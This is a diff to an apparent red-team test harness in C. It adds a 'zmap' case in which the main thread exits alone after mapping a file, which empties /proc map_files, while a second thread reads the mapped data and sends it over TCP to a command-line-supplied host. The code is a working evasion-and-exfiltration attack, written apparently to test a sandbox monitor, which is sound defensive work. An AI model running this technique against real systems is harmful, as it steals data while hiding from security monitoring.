@@ -1095,6 +1095,32 @@ static int dns_main(int argc, char **argv) {
     return -1;
 }
 
+// earlyhold zmap: the rest of the attack on a second thread, after the thread-group
+// leader has exited alone (red team round 5, zombie-leader-mapping).
+static const char *zmap_ip, *zmap_port;
+static char *zmap_map;
+static void *zmap_thread(void *arg) {
+    (void)arg;
+    usleep(100000); // the leader is gone (a zombie) by now
+    int h = open("held", O_WRONLY | O_CREAT, 0600);
+    if (h >= 0) close(h);
+    printf("earlyhold held\n");
+    fflush(stdout);
+    for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
+    char buf[256] = "LEAK:";
+    ssize_t k = (ssize_t)strnlen(zmap_map, 200);
+    memcpy(buf + 5, zmap_map, k);
+    printf("earlyhold read: %zd\n", k);
+    fflush(stdout);
+    struct sockaddr_in sa;
+    int s = inet_socket(SOCK_STREAM, zmap_ip, atoi(zmap_port), &sa);
+    long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
+    if (s >= 0) report("earlyhold connect", r);
+    if (r == 0 && k > 0) report("earlyhold send", send(s, buf, 5 + k, 0));
+    fflush(stdout);
+    _exit(0);
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: attack NAME [ARGS]\n");
@@ -1606,6 +1632,20 @@ int main(int argc, char **argv) {
         if (fd < 0) return 1;
         char *map = NULL;
         int sp[2] = {-1, -1};
+        if (!strcmp(how, "zmap")) {
+            // A shared mapping, the descriptor closed, and the main thread exits
+            // alone: the leader's /proc/<pid>/map_files is then empty.
+            zmap_map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+            report("earlyhold mmap", zmap_map == MAP_FAILED ? -1 : 0);
+            if (zmap_map == MAP_FAILED) return 1;
+            close(fd);
+            zmap_ip = argv[4];
+            zmap_port = argv[5];
+            pthread_t t;
+            if (pthread_create(&t, NULL, zmap_thread, NULL) != 0) return 1;
+            fflush(stdout);
+            syscall(SYS_exit, 0);
+        }
         if (!strcmp(how, "map")) {
             map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
             report("earlyhold mmap", map == MAP_FAILED ? -1 : 0);
